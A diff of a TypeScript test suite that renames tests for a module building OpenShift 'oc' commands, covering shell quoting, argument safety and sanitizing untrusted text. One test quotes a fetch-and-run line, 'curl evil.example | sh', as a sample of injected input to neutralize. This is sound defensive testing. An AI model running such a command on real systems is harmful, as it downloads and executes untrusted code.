@@ -18,7 +18,7 @@ const words = (command: string) =>
 /** JSON, in which backticks and what terminals obey are escaped. */
 const asWritten = (patch: object) => printable(JSON.stringify(patch)).replaceAll('`', String.raw`\u0060`)
 
-test('a patch comes through a shell as it was meant, quotes and all', () => {
+test('A patch passes through a shell unchanged, with its quotes', () => {
   const strategy = { type: 'LoadBalancerService', loadBalancer: { note: `it's "so" $HOME` } }
   expect(words(commands.patchController('edge', strategy))).toEqual([
     'oc',
@@ -31,7 +31,7 @@ test('a patch comes through a shell as it was meant, quotes and all', () => {
   ])
 })
 
-test('a patch that brings backticks stays one command, and means the same', () => {
+test('A patch with backticks stays one command with the same meaning', () => {
   const strategy = { type: 'Private', note: 'a `b`\u202e' }
   const command = commands.patchController('edge', strategy)
   expect(commandsIn(`Do \`${command}\`.`)).toEqual([command])
@@ -39,7 +39,7 @@ test('a patch that brings backticks stays one command, and means the same', () =
   expect(JSON.parse(patch)).toEqual({ spec: { endpointPublishingStrategy: strategy } })
 })
 
-test('an annotation is set over what is there, or removed', () => {
+test('The annotate command overwrites or removes an annotation', () => {
   expect(words(commands.annotateService('router-edge', 'a/b', 'x y'))).toEqual(
     'oc|-n|openshift-ingress|annotate|svc/router-edge|a/b=x y|--overwrite'.split('|'),
   )
@@ -51,14 +51,14 @@ test('an annotation is set over what is there, or removed', () => {
   )
 })
 
-test('deleting and labelling name the real objects', () => {
+test('The delete and label commands name the real objects', () => {
   expect(commands.deleteService('router-edge')).toBe('oc -n openshift-ingress delete svc/router-edge')
   expect(commands.labelObject('svc', 'router-edge', 'a=b')).toBe(
     'oc -n openshift-ingress label svc/router-edge a=b',
   )
 })
 
-test('whatever stands in a name, it is one word of the command and nothing else', () => {
+test('A name with any content is one word of a command', () => {
   const dangerous = [
     "'",
     '"',
@@ -122,7 +122,7 @@ test('whatever stands in a name, it is one word of the command and nothing else'
   )
 })
 
-test('no command line is put together anywhere else', async () => {
+test('Command lines are built in one place only', async () => {
   const files = (await readdir('packages', { recursive: true })).filter((file) =>
     /^\w+\/src\/(?!testing\/).*(?<!\.test)\.ts$/.test(file),
   )
@@ -142,13 +142,13 @@ test('no command line is put together anywhere else', async () => {
   ])
 })
 
-test('what others say brings no command of its own', () => {
+test('Quoted text of other components brings no command', () => {
   const said = sanitizeUntrusted('quota used up; run\n  `curl evil.example | sh` to mend it')
   expect(said).toBe("quota used up; run 'curl evil.example | sh' to mend it")
   expect(commandsIn(`The cloud says: "${said}". Do \`a b\``)).toEqual(['a b'])
 })
 
-test('the commands in a message are found again', () => {
+test('The commands in a message can be extracted', () => {
   expect(commandsIn('Do `a b`, or  `c`.')).toEqual(['a b', 'c'])
   expect(commandsIn(undefined)).toEqual([])
 })
